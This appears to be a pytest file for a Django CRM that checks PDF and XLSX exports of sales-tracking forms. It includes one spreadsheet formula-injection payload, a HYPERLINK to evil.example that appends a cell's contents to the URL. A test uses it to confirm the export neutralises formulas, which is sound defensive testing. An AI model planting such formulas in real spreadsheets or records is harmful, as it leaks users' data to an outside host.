"""GC-FOR-05, GC-FOR-06 and GC-FOR-21 as PDF (controlled-form layout) and XLSX, checked for content."""

import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from comercial.crm import services
from tests.comercial.crm.factories import ActividadFactory, ProspectoFactory

pytestmark = pytest.mark.django_db
MALICIOSO = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'


@pytest.fixture
def datos(lider, ana, pedro):
    with time_machine.travel(datetime(2026, 3, 20, 10, tzinfo=ZoneInfo("America/Bogota")), tick=False):
        rojo = ProspectoFactory(perfil=ana, fecha=date(2026, 3, 2), cliente="Cliente Rojo")
        verde = ProspectoFactory(perfil=ana, fecha=date(2026, 3, 18), cliente="Cliente Verde")
        ajeno = ProspectoFactory(perfil=pedro, fecha=date(2026, 3, 18), cliente="Cliente De Pedro")
        services.prospecto_validar(actor=lider, prospecto=rojo, resultado="falso", notas="No existe")
        services.prospecto_validar(actor=lider, prospecto=verde, resultado="valido", recibio_asesoria=True)
        actividad = ActividadFactory(prospecto=rojo, tipo="cotizacion", comentario="Envié cotización Duster")
        services.actividad_validar(actor=lider, actividad=actividad, valida=False, motivo="Sin soporte")
        return {"rojo": rojo, "verde": verde, "ajeno": ajeno, "actividad": actividad}


def _texto_pdf(contenido):
    return " ".join(" ".join(p.extract_text().split()) for p in PdfReader(io.BytesIO(contenido)).pages)


def _descargar(client, usuario, clave, extension):
    client.force_login(usuario)
    with time_machine.travel(datetime(2026, 3, 20, 10, tzinfo=ZoneInfo("America/Bogota")), tick=False):
        respuesta = client.get(reverse(f"comercial:crm:formato_{extension}", args=[clave]) + "?mes=2026-03")
    assert respuesta.status_code == 200
    return respuesta


@pytest.mark.parametrize(
    ("clave", "codigo", "titulo", "esperado"),
    [
        ("gc-for-06", "GC-FOR-06", "INFORME VALIDEZ DE PROSPECTOS", ["Cliente Rojo", "Falso", "No existe", "Válido"]),
        (
            "gc-for-05",
            "GC-FOR-05",
            "VALIDEZ DE SEGUIMIENTO DE ACTIVIDADES",
            ["Envié cotización Duster", "No válida", "Sin soporte", "Cotización"],
        ),
        (
            "gc-for-21",
            "GC-FOR-21",
            "REGISTRO SEMÁFORO DE SEGUIMIENTO",
            ["Cliente Rojo", "Rojo", "Cliente Verde", "Verde"],
        ),
    ],
)
def test_pdf_en_formato_controlado(client, lider, datos, clave, codigo, titulo, esperado):
    respuesta = _descargar(client, lider, clave, "pdf")
    assert respuesta["Content-Type"] == "application/pdf"
    assert f"{codigo}_2026-03.pdf" in respuesta["Content-Disposition"]
    texto = _texto_pdf(respuesta.content)
    for fragmento in [
        codigo,
        titulo,
        "03",
        "15/07/2026",
        "Página 1 de",
        "Líder CRM",
        "Gerente comercial",
        "Gerente general",
        *esperado,
    ]:
        assert fragmento in texto, fragmento
    if clave != "gc-for-05":  # Pedro has no activities
        assert "Cliente De Pedro" in texto  # the Líder sees every marca


def test_el_pdf_del_asesor_solo_trae_lo_suyo(client, pedro, datos):
    texto = _texto_pdf(_descargar(client, pedro.usuario, "gc-for-21", "pdf").content)
    assert "Cliente De Pedro" in texto and "Cliente Rojo" not in texto


def test_xlsx_gc_for_21_con_contadores_y_semaforo(client, lider, datos):
    respuesta = _descargar(client, lider, "gc-for-21", "xlsx")
    hoja = load_workbook(io.BytesIO(respuesta.content)).active
    filas = list(hoja.iter_rows(values_only=True))
    assert filas[0][0].startswith("Carrazos S.A.S. · GC-FOR-21")
    assert filas[1][:2] == ("Versión 03", "Fecha de vigencia 15/07/2026")
    encabezado = filas[3]
    assert encabezado[-3:] == ("Último seguimiento", "Días sin seguimiento", "Semáforo")
    por_cliente = {f[4]: f for f in filas[4:]}
    rojo = por_cliente["Cliente Rojo"]
    assert (rojo[0], rojo[6], rojo[11], rojo[12]) == (datos["rojo"].id_spiga, 0, 18, "Rojo")  # cotización refused
    assert por_cliente["Cliente Verde"][11:] == (2, "Verde")


def test_xlsx_gc_for_05_y_gc_for_06(client, lider, datos):
    filas = list(
        load_workbook(io.BytesIO(_descargar(client, lider, "gc-for-05", "xlsx").content)).active.iter_rows(
            values_only=True
        )
    )
    (actividad,) = filas[4:]
    assert (actividad[0], actividad[5], actividad[9], actividad[10], actividad[11]) == (
        datos["actividad"].id_spiga,
        "Cotización",
        "Envié cotización Duster",
        "No válida",
        "Sin soporte",
    )
    filas = list(
        load_workbook(io.BytesIO(_descargar(client, lider, "gc-for-06", "xlsx").content)).active.iter_rows(
            values_only=True
        )
    )
    por_cliente = {f[4]: f for f in filas[4:]}
    assert por_cliente["Cliente Rojo"][7:11] == ("Falso", None, 1, "No existe")
    assert por_cliente["Cliente Verde"][7:9] == ("Válido", "Sí")


def test_formato_desconocido_es_404(client, lider):
    client.force_login(lider)
    assert client.get("/comercial/crm/formatos/gc-for-99.pdf").status_code == 404


def test_xlsx_no_ejecuta_formulas_de_un_cliente_malicioso(client, lider, datos):
    datos["rojo"].cliente = MALICIOSO
    datos["rojo"].save(update_fields=["cliente"])
    for clave in ("gc-for-05", "gc-for-06", "gc-for-21"):
        hoja = load_workbook(io.BytesIO(_descargar(client, lider, clave, "xlsx").content)).active
        celdas = [c for fila in hoja.iter_rows(min_row=5) for c in fila if c.value == "'" + MALICIOSO]
        assert celdas, clave
        assert all(c.data_type == "s" for c in celdas), clave
    (fila,) = [f for f in hoja.iter_rows(min_row=5, values_only=True) if f[4] == "'" + MALICIOSO]
    assert (fila[5], fila[11], fila[12]) == (0, 18, "Rojo")  # GC-FOR-21's counters stay numbers
